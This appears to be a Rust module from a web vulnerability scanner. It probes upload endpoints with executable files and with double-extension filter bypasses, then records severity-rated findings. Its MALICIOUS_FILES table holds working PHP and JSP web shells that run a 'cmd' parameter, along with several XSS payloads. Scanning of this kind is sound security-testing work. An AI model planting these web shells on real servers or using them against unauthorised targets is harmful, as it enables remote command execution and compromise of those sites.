// src/core/scanner/upload_scanner.rs

use crate::core::models::{Observation, Severity};
use crate::core::scanner::endpoint_scanner::excerpt;
use crate::core::scanner::target_url;
use crate::core::session::ScanSession;
use reqwest::multipart::{Form, Part};
use serde_json::json;
use tracing::{debug, info};

const PROBE: &str = "file_upload";

static UPLOAD_ENDPOINTS: &[&str] = &["/api/upload", "/admin/upload", "/api/media", "/admin/media"];

// Server-side executable content dressed up as an upload. Acceptance of
// any of these is a finding on its own; serving them back is worse.
static MALICIOUS_FILES: &[(&str, &str)] = &[
    ("shell.php", r#"<?php system($_GET["cmd"]); ?>"#),
    ("xss.html", r#"<script>alert("XSS")</script>"#),
    (
        "shell.jsp",
        r#"<% Runtime.getRuntime().exec(request.getParameter("cmd")); %>"#,
    ),
    ("fake.gif", r#"GIF89a<script>alert("XSS")</script>"#),
    (
        "malicious.svg",
        r#"<svg xmlns="http://www.w3.org/2000/svg" onload="alert('XSS')"></svg>"#,
    ),
];

/// Uploads executable content to every upload endpoint and checks whether
/// it is accepted, and whether the response leaks a path to fetch it back.
pub async fn run_upload_scan(client: &reqwest::Client, session: &ScanSession) {
    info!(target = %session.target(), "Starting file upload scan.");

    for endpoint in UPLOAD_ENDPOINTS {
        for (filename, content) in MALICIOUS_FILES {
            probe_upload(client, session, endpoint, filename, content, "application/octet-stream")
                .await;

            // Double-extension variant: "shell.php" becomes "shell.jpg.php"
            // with an image content type, the classic filter bypass.
            let double_ext = filename.replacen('.', ".jpg.", 1);
            probe_double_extension(client, session, endpoint, &double_ext, content).await;
        }
    }

    info!("File upload scan finished.");
}

async fn probe_upload(
    client: &reqwest::Client,
    session: &ScanSession,
    endpoint: &str,
    filename: &str,
    content: &str,
    content_type: &str,
) {
    let Some(response) = send_multipart(client, session, endpoint, filename, content, content_type)
        .await
    else {
        return;
    };

    let status = response.status().as_u16();
    let body = response.text().await.unwrap_or_default();

    if status == 200 || status == 201 {
        session.record(
            Severity::High,
            format!("Malicious file upload accepted: {}", endpoint),
            Observation::new(
                PROBE,
                endpoint,
                json!({ "filename": filename, "status": status }),
            ),
        );

        if body.contains("path") || body.contains("url") {
            session.record(
                Severity::Critical,
                format!("Uploaded file may be accessible: {}", endpoint),
                Observation::new(
                    PROBE,
                    endpoint,
                    json!({ "filename": filename, "response": excerpt(&body, 200) }),
                ),
            );
        }
    }
}

async fn probe_double_extension(
    client: &reqwest::Client,
    session: &ScanSession,
    endpoint: &str,
    filename: &str,
    content: &str,
) {
    let Some(response) =
        send_multipart(client, session, endpoint, filename, content, "image/jpeg").await
    else {
        return;
    };

    let status = response.status().as_u16();
    if status == 200 || status == 201 {
        session.record(
            Severity::Medium,
            format!("Double extension bypass: {}", endpoint),
            Observation::new(PROBE, endpoint, json!({ "filename": filename })),
        );
    }
}

async fn send_multipart(
    client: &reqwest::Client,
    session: &ScanSession,
    endpoint: &str,
    filename: &str,
    content: &str,
    content_type: &str,
) -> Option<reqwest::Response> {
    let url = target_url(session, endpoint);
    let part = match Part::text(content.to_string())
        .file_name(filename.to_string())
        .mime_str(content_type)
    {
        Ok(part) => part,
        Err(e) => {
            // Only a bad static table can land here; surface it instead of
            // pretending the endpoint was probed.
            session.probe_failed(PROBE, format!("could not build multipart body: {}", e));
            return None;
        }
    };
    let form = Form::new().part("file", part);

    match client.post(&url).multipart(form).send().await {
        Ok(response) => Some(response),
        Err(e) => {
            debug!(%url, error = %e, "Request failed, skipping.");
            None
        }
    }
}
